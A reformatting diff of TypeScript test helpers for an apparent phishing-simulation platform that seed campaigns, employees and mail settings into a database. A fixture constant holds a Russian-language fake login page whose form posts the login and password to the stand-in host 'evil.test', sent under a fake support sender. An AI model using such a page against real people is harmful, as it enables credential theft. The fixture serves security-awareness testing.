@@ -21,27 +21,60 @@ type Changes = {
   /** Whose letters: by default new people are made. */
   employees?: readonly string[];
 };
-const PAGE = '<!DOCTYPE html><html><head><title>Вход</title></head><body><form method="post" action="https://evil.test/"><p>{{full_name}}</p>'
-  + '<input name="login" data-field="login" value="{{email}}"><input type="password" name="p" data-field="password"><button>Войти</button></form></body></html>';
+const PAGE =
+  '<!DOCTYPE html><html><head><title>Вход</title></head><body><form method="post" action="https://evil.test/"><p>{{full_name}}</p>' +
+  '<input name="login" data-field="login" value="{{email}}"><input type="password" name="p" data-field="password"><button>Войти</button></form></body></html>';
 const HTML = '<html><body><p>{{full_name}}</p><a href="{{link}}">Открыть</a>{{tracking}}</body></html>';
 
 /** A campaign that is running, with one letter and this many people, written straight into the tables by the owner. */
-export const mailing = async (platform: Platform, organizationId: string, people: number, changes: Changes = {}): Promise<Mailing> => {
+export const mailing = async (
+  platform: Platform,
+  organizationId: string,
+  people: number,
+  changes: Changes = {},
+): Promise<Mailing> => {
   const { owner } = platform.db;
-  const domain = changes.domain ?? (await one<{ domain: string }>(owner,
-    'select domain from organization_domains where organization_id = $1 order by created_at limit 1', [organizationId])).domain;
+  const domain =
+    changes.domain ??
+    (
+      await one<{ domain: string }>(
+        owner,
+        'select domain from organization_domains where organization_id = $1 order by created_at limit 1',
+        [organizationId],
+      )
+    ).domain;
   const emailId = randomUUID();
-  const { id: campaignId } = await one<{ id: string }>(owner,
+  const { id: campaignId } = await one<{ id: string }>(
+    owner,
     `insert into campaigns (organization_id, name, status, is_testing, spread, settings, start_at, end_at, redirect_page_id, course_id)
      values ($1, 'Рассылка', $2, $3, $4, $5, now() - interval '1 minute', $6, $7, $8) returning id`,
-    [organizationId, changes.status ?? 'active', changes.is_testing ?? false, changes.spread ?? false, JSON.stringify(changes.settings ?? {}),
-      changes.end_at ?? new Date(Date.now() + 7 * 86_400_000), changes.redirect_page_id ?? null, changes.course_id ?? null]);
+    [
+      organizationId,
+      changes.status ?? 'active',
+      changes.is_testing ?? false,
+      changes.spread ?? false,
+      JSON.stringify(changes.settings ?? {}),
+      changes.end_at ?? new Date(Date.now() + 7 * 86_400_000),
+      changes.redirect_page_id ?? null,
+      changes.course_id ?? null,
+    ],
+  );
   await owner.query(
     `insert into campaign_emails (organization_id, campaign_id, email_id, template_id, name, template_name, attack_vector, subject,
        sender_name, sender_address, html, page_html, attachment, tips)
      values ($1, $2, $3, $4, 'Письмо', 'Сценарий', $5, $6, 'Служба поддержки', 'support@help-desk.test', $7, $8, $9, '["Проверьте адрес"]')`,
-    [organizationId, campaignId, emailId, randomUUID(), changes.attachment ? 'attachments' : 'form', changes.subject ?? 'Письмо для {{first_name}}',
-      changes.html ?? HTML, changes.page_html === undefined ? PAGE : changes.page_html, changes.attachment ? JSON.stringify(changes.attachment) : null]);
+    [
+      organizationId,
+      campaignId,
+      emailId,
+      randomUUID(),
+      changes.attachment ? 'attachments' : 'form',
+      changes.subject ?? 'Письмо для {{first_name}}',
+      changes.html ?? HTML,
+      changes.page_html === undefined ? PAGE : changes.page_html,
+      changes.attachment ? JSON.stringify(changes.attachment) : null,
+    ],
+  );
   const ids = changes.employees ?? (await addPeople(owner, organizationId, people, domain));
   for (let from = 0; from < ids.length; from += 10_000) {
     const part = ids.slice(from, from + 10_000);
@@ -50,7 +83,15 @@ export const mailing = async (platform: Platform, organizationId: string, people
          first_name, last_name, department, send_at)
        select $1, $2, $3, e.id, k.key, '<' || k.key || '@help-desk.test>', e.email, e.first_name, e.last_name, 'Отдел', $6
        from unnest($4::uuid[], $5::text[]) as k (id, key) join employees e on e.id = k.id`,
-      [organizationId, campaignId, emailId, part, part.map(() => newTrackingKey()), changes.send_at ?? new Date(Date.now() - 1_000)]);
+      [
+        organizationId,
+        campaignId,
+        emailId,
+        part,
+        part.map(() => newTrackingKey()),
+        changes.send_at ?? new Date(Date.now() - 1_000),
+      ],
+    );
   }
   return { organizationId, campaignId, emailId, domain };
 };
@@ -61,23 +102,32 @@ const addPeople = async (owner: pg.Pool, organizationId: string, people: number,
     `insert into employees (organization_id, department_id, email, first_name, last_name)
      select $1, (select id from departments where organization_id = $1 and is_default), 'p' || n || '-' || $3 || '@' || $4, 'Анна', 'Ким ' || n
      from generate_series(1, $2::int) as n returning id`,
-    [organizationId, people, tail, domain]);
+    [organizationId, people, tail, domain],
+  );
   return rows.map((row) => row.id);
 };
 
 /** Letters leave through this server from now on. */
-export const mailServer = async (platform: Platform, organizationId: string, port: number, connections = 4): Promise<void> => {
+export const mailServer = async (
+  platform: Platform,
+  organizationId: string,
+  port: number,
+  connections = 4,
+): Promise<void> => {
   await platform.db.owner.query(
     `insert into mail_settings (organization_id, host, port, security, sender_name, sender_address, connections)
      values ($1, '127.0.0.1', $2, 'none', 'Портал', 'portal@portal.test', $3)
      on conflict (organization_id) do update set port = excluded.port, connections = excluded.connections`,
-    [organizationId, port, connections]);
+    [organizationId, port, connections],
+  );
 };
 
 /** How many letters of a campaign are in each state. */
 export const letterStates = async (platform: Platform, campaignId: string): Promise<Record<string, number>> => {
   const { rows } = await platform.db.owner.query<{ state: string; n: number }>(
-    'select state, count(*)::int as n from campaign_recipients where campaign_id = $1 group by state', [campaignId]);
+    'select state, count(*)::int as n from campaign_recipients where campaign_id = $1 group by state',
+    [campaignId],
+  );
   return Object.fromEntries(rows.map((row) => [row.state, row.n]));
 };
 
